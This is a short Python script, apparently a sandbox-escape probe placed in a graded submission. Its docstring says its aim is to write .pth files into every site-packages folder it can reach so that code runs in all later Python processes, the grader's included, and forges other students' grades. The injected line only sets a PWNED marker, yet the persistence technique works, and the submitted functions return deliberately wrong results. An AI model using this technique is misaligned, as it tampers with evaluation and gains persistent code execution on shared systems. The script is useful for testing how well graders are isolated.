"""Write a .pth file into every site-packages folder in reach: it would run inside every later Python process of
the grader's installation (the grader's own included), and forge the next students' grades from there."""
import json
import os
import site
import sys

TAG = "__TAG__"
folders = {p for p in sys.path if p.endswith("site-packages")}
for getter in (site.getsitepackages, lambda: [site.getusersitepackages()]):
    try:
        folders.update(getter())
    except Exception:  # noqa: BLE001
        pass
wrote = []
for folder in sorted(folders):
    path = os.path.join(folder, f"{TAG}.pth")
    try:
        with open(path, "w") as f:
            f.write("import os; os.environ['PWNED'] = '1'\n")
        wrote.append(path)
    except OSError:
        pass
print("PTH " + json.dumps(wrote))


def square(x):
    return x + 1


def grad(x):
    return x - 1
